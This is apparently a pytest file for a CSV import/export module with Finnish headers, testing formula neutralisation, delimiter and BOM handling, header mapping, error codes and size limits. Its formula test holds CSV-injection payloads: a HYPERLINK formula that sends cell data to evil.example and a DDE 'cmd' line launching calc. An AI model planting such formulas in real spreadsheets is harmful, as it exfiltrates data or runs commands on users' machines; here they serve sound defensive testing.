"""CSV reading and writing: formula neutralising, delimiters, BOM, header names, limits."""

from __future__ import annotations

import csv
import io

import pytest

from core import csv_io
from core.csv_io import CsvFormatError, csv_line, neutralise, parse, unprotect


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_cells_get_an_apostrophe(cell):
    out = neutralise(cell)
    assert out == "'" + cell
    assert not out.startswith(csv_io.FORMULA_TRIGGERS)
    assert unprotect(out) == cell


@pytest.mark.parametrize("cell", ["Virtanen", "", "a=b", "O'Brien", "'quoted", "1-2", "x@y.fi"])
def test_ordinary_cells_are_unchanged(cell):
    assert neutralise(cell) == cell
    assert unprotect(cell) == cell


def test_phone_numbers_are_readable_and_inert():
    assert csv_io.format_phone("+358401234567") == "+358 40 1234567"
    line = csv_line(["+358 40 1234567"])
    assert line == "'+358 40 1234567\r\n"


def test_written_line_parses_back_with_quoting():
    line = csv_line(['Oy "Ab"; Ltd', "rivi 1\nrivi 2", "=1+1"])
    assert next(csv.reader(io.StringIO(line), delimiter=";")) == [
        'Oy "Ab"; Ltd',
        "rivi 1\nrivi 2",
        "'=1+1",
    ]


def _file(text: str, *, bom: bool = False) -> bytes:
    return (("\ufeff" if bom else "") + text).encode("utf-8")


def test_finnish_headers_semicolons_and_bom():
    parsed = parse(
        _file(
            "Etunimi;Sukunimi;Sähköposti;Puhelin;Titteli;Organisaatio;Y-tunnus;Avainsanat;Muu\r\n"
            "Äijä;Öhman;a@b.fi;'+358 40 1234567;Toimitusjohtaja;Kortti Oy;0112038-9;a, b;x\r\n",
            bom=True,
        ),
        "persons",
    )
    assert parsed.delimiter == ";"
    assert parsed.ignored == ["Muu"]
    row = parsed.rows[0]
    assert row.line == 2
    assert row.values == {
        "first_name": "Äijä",
        "last_name": "Öhman",
        "emails": "a@b.fi",
        "phones": "+358 40 1234567",
        "title": "Toimitusjohtaja",
        "organization": "Kortti Oy",
        "business_id": "0112038-9",
        "keywords": "a, b",
    }


def test_english_headers_and_commas():
    parsed = parse(
        _file('first_name,Last Name,E-mail,phone\nAino,Virtanen,"a@b.fi, c@d.fi",040 1\n\n'),
        "persons",
    )
    assert parsed.delimiter == ","
    assert [r.values["emails"] for r in parsed.rows] == ["a@b.fi, c@d.fi"]


def test_organization_headers():
    parsed = parse(
        _file("Nimi;Y-tunnus;Postinumero;Postitoimipaikka\nNokia;0112038-9;02610;Espoo\n"),
        "organizations",
    )
    assert parsed.rows[0].values == {
        "name": "Nokia",
        "business_id": "0112038-9",
        "postal_code": "02610",
        "city": "Espoo",
    }


def test_line_numbers_count_multiline_cells():
    parsed = parse(_file('etunimi;sukunimi;kuvaus\nA;B;"yksi\nkaksi"\nC;D;\n'), "persons")
    assert [r.line for r in parsed.rows] == [2, 4]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b"etunimi;sukunimi\n", "no_rows"),
        (b"etunimi;titteli\nA;B\n", "missing_columns"),
        ("etunimi;sukunimi\nÄ;Ö\n".encode("cp1252"), "encoding"),
        (b"etunimi;sukunimi\x00\n", "not_csv"),
        (b'etunimi;sukunimi\n"A;B\n', "malformed"),
    ],
)
def test_unusable_files_are_refused_with_a_reason(data, code):
    with pytest.raises(CsvFormatError) as err:
        parse(data, "persons")
    assert err.value.code == code


def test_size_and_row_limits(monkeypatch):
    big = b"etunimi;sukunimi\n" + b"A;B\n" * (csv_io.MAX_IMPORT_BYTES // 4 + 1)
    with pytest.raises(CsvFormatError) as err:
        parse(big, "persons")
    assert err.value.code == "too_large"
    monkeypatch.setattr(csv_io, "MAX_IMPORT_ROWS", 3)
    with pytest.raises(CsvFormatError) as err:
        parse(b"etunimi;sukunimi\n" + b"A;B\n" * 4, "persons")
    assert err.value.code == "too_many_rows"
    assert len(parse(b"etunimi;sukunimi\n" + b"A;B\n" * 3, "persons").rows) == 3
